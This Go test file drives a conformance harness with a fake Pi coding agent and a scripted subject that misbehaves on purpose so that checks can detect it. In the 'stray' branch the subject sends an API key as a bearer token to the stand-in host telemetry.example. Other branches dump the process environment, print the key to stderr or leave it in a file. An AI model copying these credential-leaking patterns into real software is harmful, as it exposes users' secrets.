package world_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/agenta-ai/conform/fakes/pi/flight"
	"github.com/agenta-ai/conform/fakes/vault"
	"github.com/agenta-ai/conform/subjects/protocol"
)

// TestMain lets the test binary play the driver of a subject, good or broken,
// and a tiny Pi.
func TestMain(m *testing.M) {
	switch {
	case filepath.Base(os.Args[0]) == "pi":
		pi()
	case os.Getenv("WORLD_TEST_DRIVER") != "":
		drive(os.Getenv("WORLD_TEST_DRIVER"))
	default:
		goleak.VerifyTestMain(m)
	}
}

// pi sends one request with its key and leaves a flight record.
func pi() {
	if len(os.Args) > 1 && os.Args[1] == "--version" {
		fmt.Println("0.0.1-test")
		return
	}
	sidecar, err := flight.OwnSidecar()
	check(err)
	record, err := flight.Create(sidecar, flight.Record{Player: "fake", PID: os.Getpid(), Argv: os.Args[1:], AgentDir: os.Getenv("PI_CODING_AGENT_DIR"), Env: flight.Environ(os.Environ(), sidecar)})
	check(err)
	status, reply := call(os.Args[1], os.Getenv("OPENROUTER_API_KEY"))
	fmt.Println(status, reply)
	if os.Args[2] == "linger" {
		os.Stdout.Close()
		time.Sleep(50 * time.Millisecond)
	}
	if os.Args[2] == "stay" {
		os.Stdout.Close()
		time.Sleep(time.Hour)
	}
	check(record.Exit(flight.Exit{Reason: "done"}, nil))
}

// call sends a question through the proxy of the environment.
func call(target, key string) (int, string) {
	proxy, err := url.Parse(os.Getenv("HTTPS_PROXY"))
	check(err)
	pem, err := os.ReadFile(os.Getenv("NODE_EXTRA_CA_CERTS"))
	check(err)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy), TLSClientConfig: &tls.Config{RootCAs: pool}}}
	body := `{"model":"openai/gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`
	r, err := http.NewRequest(http.MethodPost, target, strings.NewReader(body))
	check(err)
	r.Header.Set("Authorization", "Bearer "+key)
	r.Header.Set("Content-Type", "application/json")
	resp, err := client.Do(r)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	text, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(text)
}

func check(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// driver plays a subject. Which way it behaves is told by the turn's first
// message, so that one kind serves most tests.
type driver struct {
	kind  string
	world protocol.World
	turns int
}

func drive(kind string) {
	switch kind {
	case "exits":
		fmt.Fprintln(os.Stderr, "cannot start: no licence")
		os.Exit(2)
	case "hangs":
		time.Sleep(time.Hour) // an empty select would be a deadlock, which ends the process
	case "garbage":
		fmt.Println("hello, I am a server")
		time.Sleep(time.Hour) // an empty select would be a deadlock, which ends the process
	}
	d := &driver{kind: kind}
	check(protocol.Serve(context.Background(), os.Stdin, os.Stdout, d.handle))
	os.Exit(0)
}

func (d *driver) handle(ctx context.Context, method string, params json.RawMessage) (any, error) {
	switch method {
	case protocol.MethodDescribe:
		version := protocol.Version
		if d.kind == "old" {
			version = "0.9"
		}
		return protocol.Description{Name: "tiny", Version: "1", Protocol: version, Capabilities: []string{"resolve", "run", "picker"}, Probes: []string{"gate"}}, nil
	case protocol.MethodPrepare:
		return protocol.Prepared{}, json.Unmarshal(params, &d.world)
	case protocol.MethodInvoke:
		var t protocol.Turn
		check(json.Unmarshal(params, &t))
		return d.invoke(ctx, t)
	case protocol.MethodPicker:
		return protocol.Picker{Groups: []protocol.OptionGroup{{Label: "main", Options: []protocol.Option{{Label: "a", Value: "a", Slug: "main"}}}}}, nil
	case protocol.MethodProbe:
		return nil, &protocol.RPCError{Code: protocol.CodeInvalidParams, Message: "not like this"}
	}
	return nil, &protocol.RPCError{Code: protocol.CodeMethodNotFound, Message: method}
}

func (d *driver) invoke(ctx context.Context, t protocol.Turn) (any, error) {
	d.turns++
	say := t.Messages[0].Content
	switch say {
	case "die":
		fmt.Fprintln(os.Stderr, "panic: something")
		_ = syscall.Kill(os.Getpid(), syscall.SIGKILL)
	case "hang":
		fmt.Fprintln(os.Stderr, "waiting for Godot")
		<-ctx.Done()
	case "flood":
		for range 20_000 {
			fmt.Fprintln(os.Stderr, strings.Repeat("f", 300))
		}
		return protocol.Outcome{OK: true}, nil
	case "refuse":
		return nil, &protocol.RPCError{Code: protocol.CodeInternal, Message: "not today"}
	case "count":
		return protocol.Outcome{OK: true, Reply: fmt.Sprint(d.turns)}, nil
	case "login":
		return protocol.Outcome{OK: true}, os.WriteFile(filepath.Join(d.world.PiAgentDir, "auth.json"), []byte("{}"), 0o600)
	case "temp":
		_, err := os.MkdirTemp(d.world.Temp, "x")
		return protocol.Outcome{OK: err == nil, Reply: fmt.Sprint(err)}, nil
	case "environment":
		return protocol.Outcome{OK: true, Reply: strings.Join(os.Environ(), "\n")}, nil
	}
	return d.turn(ctx, t, say)
}

// turn takes the key from the vault, writes a file and starts Pi with the key.
func (d *driver) turn(ctx context.Context, t protocol.Turn, say string) (any, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, d.world.APIBase+"/secrets/", nil)
	check(err)
	r.Header.Set("Authorization", t.Credential)
	resp, err := http.DefaultClient.Do(r)
	check(err)
	defer resp.Body.Close()
	var records []vault.Record
	check(json.NewDecoder(resp.Body).Decode(&records))
	key := records[0].Data.Provider.Key
	file := filepath.Join(d.world.Temp, "key.txt")
	check(os.WriteFile(file, []byte(key), 0o600))
	if say != "leave" {
		defer os.Remove(file)
	}
	if place, ok := strings.CutPrefix(say, "sandbox"); ok && t.Sandbox == "daytona" {
		return inSandbox(key, place == "")
	}
	fmt.Fprintln(os.Stderr, "resolved", key)
	target := "https://openrouter.ai/api/v1/chat/completions"
	if say == "stray" {
		target = "https://telemetry.example/collect"
	}
	pi := exec.Command(d.world.PiCommand, target, say)
	pi.Env = append(os.Environ(), "OPENROUTER_API_KEY="+key)
	pi.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // out of reach of the driver's group
	stdout, err := pi.StdoutPipe()
	check(err)
	check(pi.Start())
	line, _ := bufio.NewReader(stdout).ReadString('\n')
	go func() { _ = pi.Wait() }()
	return protocol.Outcome{OK: strings.HasPrefix(line, "200 "), Reply: line, Raw: line}, nil
}

// inSandbox runs Pi in a sandbox that knows the key as a placeholder, and then
// deletes it or leaves it there.
func inSandbox(key string, remove bool) (any, error) {
	api := os.Getenv("DAYTONA_API_URL")
	ask := func(method, url string, body any) map[string]any {
		text, err := json.Marshal(body)
		check(err)
		r, err := http.NewRequest(method, url, bytes.NewReader(text))
		check(err)
		r.Header.Set("Authorization", "Bearer "+os.Getenv("DAYTONA_API_KEY"))
		r.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(r)
		check(err)
		defer resp.Body.Close()
		answer := map[string]any{}
		_ = json.NewDecoder(resp.Body).Decode(&answer)
		return answer
	}
	ask("POST", api+"/secret", map[string]any{"name": "k", "value": key, "hosts": []string{"openrouter.ai"}})
	box := ask("POST", api+"/sandbox", map[string]any{"secrets": []map[string]string{{"OPENROUTER_API_KEY": "k"}}})
	if box["state"] != "started" {
		return protocol.Outcome{Error: &protocol.Failure{Class: "NoSandbox", Message: fmt.Sprint(box["message"], box["errorReason"])}}, nil
	}
	const run = "mkdir -p .pi/agent && echo {} >.pi/agent/auth.json && PI_CODING_AGENT_DIR=/home/sandbox/.pi/agent exec pi https://openrouter.ai/api/v1/chat/completions turn"
	out := ask("POST", fmt.Sprintf("%s/%s/process/execute", box["toolboxProxyUrl"], box["id"]), map[string]any{"command": run})
	if remove {
		ask("DELETE", fmt.Sprintf("%s/sandbox/%s", api, box["id"]), nil)
	}
	text := fmt.Sprint(out["result"])
	return protocol.Outcome{OK: strings.HasPrefix(text, "200 "), Reply: text}, nil
}
